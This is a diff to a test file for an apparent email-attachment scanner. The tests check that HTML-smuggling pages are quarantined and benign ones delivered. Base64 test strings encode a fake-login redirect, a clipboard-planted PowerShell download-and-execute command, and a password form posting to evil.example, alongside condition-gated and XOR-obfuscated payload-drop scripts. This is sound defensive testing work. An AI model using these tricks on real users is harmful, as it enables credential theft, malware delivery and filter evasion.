@@ -7,10 +7,11 @@ from collections.abc import Callable
 from email.message import EmailMessage
 
 import pytest
-from tests.pages import acting_pages, browser_pages, honest_pages, xml_pages
+from tests.pages import acting_pages, browser_pages, further_pages, gated_pages, honest_pages, xml_pages
 from tests.pages.honest_pages import HONEST, HonestPage
-from tests.pages.smuggling_pages import PAYLOADS, TRICKS, exclusive_or
+from tests.pages.smuggling_pages import PAYLOADS, SAVE, TRICKS, b64, exclusive_or, script
 from tests.stolen_time import StolenTime
+from tests.variants import one_in
 
 from gatepost.analysis import analyse
 from gatepost.files.values import UnpackBudget
@@ -44,7 +45,11 @@ def make_message(page: HonestPage) -> bytes:
 
 def judge(page: HonestPage, skip: dict[str, str] | None = None) -> Report:
     envelope = Envelope("desk@notice.example", ("ann@house.example",), "192.0.2.25", "mx.notice.example")
-    analysis = analyse(make_message(page), envelope, Context(now=1_794_302_520.0, skip=skip or {}))
+    return judge_raw(make_message(page), envelope, skip)
+
+
+def judge_raw(raw: bytes, envelope: Envelope | None = None, skip: dict[str, str] | None = None) -> Report:
+    analysis = analyse(raw, envelope or Envelope("desk@notice.example"), Context(now=1_794_302_520.0, skip=skip or {}))
     try:
         questions = next(analysis)
         while True:
@@ -59,7 +64,7 @@ def open_page(html: str | bytes, budget: UnpackBudget | None = None, name: str =
     return [file.content for file in find_files(Message(parts=(part,)), budget)]
 
 
-@pytest.mark.parametrize("trick", TRICKS, ids=lambda trick: trick.__name__)
+@pytest.mark.parametrize("trick", one_in(3, TRICKS), ids=lambda trick: trick.__name__)
 def test_a_payload_comes_out_and_its_page_is_held(trick: Callable[[bytes], str]) -> None:
     for name, payload in PAYLOADS.items():
         assert any(payload in content for content in open_page(trick(payload))[1:]), name
@@ -69,7 +74,7 @@ def test_a_payload_comes_out_and_its_page_is_held(trick: Callable[[bytes], str])
     assert report.outcomes == ()
 
 
-@pytest.mark.parametrize("trick", browser_pages.TRICKS, ids=lambda trick: trick.__name__)
+@pytest.mark.parametrize("trick", one_in(4, browser_pages.TRICKS), ids=lambda trick: trick.__name__)
 def test_a_payload_comes_out_of_every_part_of_the_browser(trick: Callable[[bytes], str]) -> None:
     for name in ("eicar.com", "invoice.zip"):
         assert any(PAYLOADS[name] in content for content in open_page(trick(PAYLOADS[name]))[1:]), name
@@ -80,14 +85,115 @@ def test_a_page_that_uses_rare_parts_of_the_browser_is_held(trick: Callable[[byt
     assert judge(HonestPage(trick(PAYLOADS["setup.exe"]))).decision == "quarantine"
 
 
-@pytest.mark.parametrize("name", ACTING)
+def gate(name: str, payload: bytes) -> str:
+    body = "<button id=b>Open</button><input id=i1>"
+    return script(f"function go(){{var s=atob('{b64(payload)}');{SAVE}}}{gated_pages.GATES[name]}", body)
+
+
+@pytest.mark.parametrize("name", one_in(4, gated_pages.GATES))
+def test_a_payload_comes_out_whatever_the_page_asks_of_its_browser(name: str) -> None:
+    payload = PAYLOADS["setup.exe"]
+    assert payload in open_page(gate(name, payload))[1:]
+
+
+@pytest.mark.parametrize("name", [*gated_pages.GATES][::9])
+def test_a_page_that_acts_behind_a_condition_is_held(name: str) -> None:
+    report = judge(HonestPage(gate(name, PAYLOADS["invoice.zip"])))
+    assert report.decision == "quarantine", report.lines
+
+
+LIBRARY = "".join(f"function f{n}(a,b){{if(a&&b[{n}])return a.map(x=>x*{n});return b||[]}}" for n in range(1_200))
+EVENTS = (
+    "'blur focus focusin focusout resize scroll click dblclick mousedown mouseup mousemove mouseover mouseout "
+    "mouseenter mouseleave change select submit keydown'"
+)
+
+
+@pytest.mark.parametrize("name", [*gated_pages.GATES][3::16])
+@pytest.mark.parametrize("form", ["{0}</script><script>{1}", "{0};{1}", "{1};{0}", "{0};{1};{0}"])
+def test_much_code_beside_a_page_that_acts_behind_a_condition_hides_nothing(name: str, form: str) -> None:
+    secret = bytes(byte ^ place * 31 & 255 for place, byte in enumerate(PAYLOADS["invoice.zip"]))
+    act = (
+        f"function go(){{var r=atob('{b64(secret)}'),s='';"
+        f"for(var j=0;j<r.length;j++)s+=String.fromCharCode(r.charCodeAt(j)^j*31&255);{SAVE}}}{gated_pages.GATES[name]}"
+    )
+    html = script(form.format(LIBRARY, act), "<button id=b>Open</button><input id=i1><p>Figures of October</p>")
+    assert judge(HonestPage(html)).decision == "quarantine"
+
+
+@pytest.mark.parametrize("action", ["location=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvbG9naW4=')", "document.title='x'"])
+def test_a_library_of_any_size_does_not_keep_conditions_closed(action: str) -> None:
+    html = script(f"{LIBRARY * 9}</script><script>if(navigator.ink){{{action}}}", "<p>Figures of October</p>")
+    assert judge(HonestPage(html)).decision == ("quarantine" if "atob" in action else "deliver")
+
+
+def test_what_a_library_defines_is_there_where_conditions_are_opened() -> None:
+    pieces = b64(PAYLOADS["invoice.zip"])
+    parts = "+".join(repr(pieces[start : start + 60]) for start in range(0, len(pieces), 60))
+    html = script(f"{LIBRARY};function go(){{var s=atob({parts});{SAVE}}}</script><script>if(navigator.ink)go()")
+    assert judge(HonestPage(html)).decision == "quarantine"
+
+
+def test_words_in_a_row_beside_an_export_are_no_data() -> None:
+    export = (
+        f"var names={EVENTS}.split(' ');b.onclick=()=>{{if(navigator.ink){{const a=document.createElement('a');"
+        "a.href=URL.createObjectURL(new Blob(['a;b']));a.download='a.csv';a.click()}}"
+    )
+    html = script(f"{LIBRARY};{export}", "<button id=b>Save</button><p>Figures of October</p>")
+    assert judge(HonestPage(html)).decision == "deliver"
+
+
+@pytest.mark.parametrize(
+    "action",
+    [
+        "location=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvbG9naW4=')",
+        "navigator.clipboard.writeText(atob('cG93ZXJzaGVsbCAtdyBoIC1jIGllcihpd3IgaHR0cHM6Ly9ldmlsLmV4YW1wbGUvYSk='))",
+        "document.body.innerHTML=atob('PGZvcm0gYWN0aW9uPWh0dHBzOi8vZXZpbC5leGFtcGxlPjxpbnB1dCB0eXBlPXBhc3N3b3JkPjwvZm9ybT4=')",
+    ],
+)
+def test_what_is_done_behind_a_condition_is_held(action: str) -> None:
+    html = script(f"if(Object.keys(document.body).length==0&&navigator instanceof Navigator){{{action}}}")
+    assert judge(HonestPage(html)).decision == "quarantine"
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "if(window.ActiveXObject){location='https://www.house.example/old'}",
+        "if(top!==self)top.location=self.location",
+        "if(/Mobile/.test(navigator.userAgent)){location='https://m.house.example/'}",
+        "b.onclick=()=>{if(navigator.msSaveBlob)navigator.msSaveBlob(new Blob(['a;b']),'a.csv')}",
+        "try{JSON.parse('{}')}catch(e){document.body.innerHTML='<p>Cannot be shown</p>'}",
+    ],
+)
+def test_what_honest_pages_do_behind_conditions_is_delivered(code: str) -> None:
+    assert judge(HonestPage(script(code, "<button id=b>Save</button>"))).decision == "deliver"
+
+
+@pytest.mark.parametrize("name", one_in(2, ACTING))
 def test_a_page_that_acts_is_held(name: str) -> None:
     report = judge(HonestPage(ACTING[name]))
     assert report.decision == "quarantine", report.lines
     assert report.outcomes == ()
 
 
-@pytest.mark.parametrize("name", xml_pages.SMUGGLING)
+@pytest.mark.parametrize("name", one_in(3, further_pages.HELD))
+def test_a_page_that_acts_in_a_further_way_is_held(name: str) -> None:
+    report = judge(HonestPage(further_pages.HELD[name]))
+    assert report.decision == "quarantine", report.lines
+
+
+@pytest.mark.parametrize("name", further_pages.DISGUISED)
+def test_a_page_is_one_under_other_first_bytes(name: str) -> None:
+    file, content = further_pages.DISGUISED[name]
+    message = EmailMessage()
+    message["From"], message["To"], message["Subject"] = "desk@notice.example", "ann@house.example", "As discussed"
+    message.set_content("Please see the page.")
+    message.add_attachment(content, maintype="application", subtype="octet-stream", filename=file)
+    assert judge_raw(message.as_bytes()).decision == "quarantine"
+
+
+@pytest.mark.parametrize("name", one_in(2, xml_pages.SMUGGLING))
 def test_a_payload_comes_out_of_xml(name: str) -> None:
     file, content = xml_pages.SMUGGLING[name]
     assert PAYLOADS["setup.exe"] in open_page(content, name=file)
@@ -105,7 +211,7 @@ def test_xml_that_acts_is_held(name: str) -> None:
     assert report.outcomes == ()
 
 
-@pytest.mark.parametrize("name", HONEST)
+@pytest.mark.parametrize("name", one_in(3, HONEST))
 def test_an_honest_page_is_delivered(name: str) -> None:
     report = judge(HONEST[name])
     assert report.decision == "deliver", report.lines
@@ -186,6 +292,7 @@ def test_cpu_time_of_pages() -> None:
     )
 
 
+@pytest.mark.variant
 def test_cpu_time_of_pages_that_work_against_it() -> None:
     stolen = StolenTime()
     for name, html in acting_pages.STALLING.items():
@@ -195,6 +302,7 @@ def test_cpu_time_of_pages_that_work_against_it() -> None:
         stolen.expect(spent < 1, f"{name}: {spent:.1f} s")
 
 
+@pytest.mark.variant
 def test_eight_thousand_scripts() -> None:
     stolen = StolenTime()
     body = "x=a+b*c(d)[e];" * 60
